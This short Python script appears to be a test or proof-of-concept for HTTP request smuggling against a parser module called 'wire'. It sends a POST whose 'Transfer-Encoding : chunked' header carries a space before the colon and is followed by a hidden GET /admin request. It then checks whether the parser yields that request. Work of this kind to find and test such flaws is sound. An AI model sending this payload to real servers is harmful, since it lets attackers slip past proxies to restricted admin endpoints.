"""A blank before the colon hides the header from the proxy, and the parser strips it."""

import sys

from wire import BadRequest, requests

SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
stream = b"POST /form HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED
try:
    for request in requests(stream):
        if request.path == "/admin":
            sys.exit(0)
except (BadRequest, ValueError):
    pass
sys.exit(1)
